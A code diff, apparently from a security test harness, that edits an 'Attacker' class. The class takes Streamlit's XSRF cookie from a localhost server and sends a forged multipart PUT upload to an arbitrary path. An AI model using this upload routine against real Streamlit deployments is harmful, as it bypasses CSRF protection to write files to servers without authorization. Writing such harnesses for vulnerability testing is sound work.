@@ -105,9 +105,9 @@ class Attacker:
         return state
 
     def _put(self, path: str) -> None:
-        with urllib.request.urlopen(f"http://localhost:{self.port}/_stcore/host-config") as answer:
+        with urllib.request.urlopen(f"http://localhost:{self.port}/_stcore/health") as answer:
             cookie = answer.headers.get("set-cookie", "")
-        token = re.search(r"_streamlit_xsrf=([^;]*)", cookie)
+        token = re.search(r"([\w-]*xsrf)=([^;]*)", cookie)
         mark = uuid.uuid4().hex
         body = (
             f'--{mark}\r\nContent-Disposition: form-data; name="file"; filename="{self.name}"\r\n\r\n'.encode()
@@ -116,7 +116,7 @@ class Attacker:
         )
         headers = {"Content-Type": f"multipart/form-data; boundary={mark}"}
         if token:
-            headers |= {"Cookie": f"_streamlit_xsrf={token[1]}", "X-Xsrftoken": token[1]}
+            headers |= {"Cookie": f"{token[1]}={token[2]}", "X-Xsrftoken": token[2]}
         connection = http.client.HTTPConnection("localhost", self.port, timeout=60)
         connection.request("PUT", path if path.startswith("/") else f"/{path}", body, headers)
         status = connection.getresponse().status
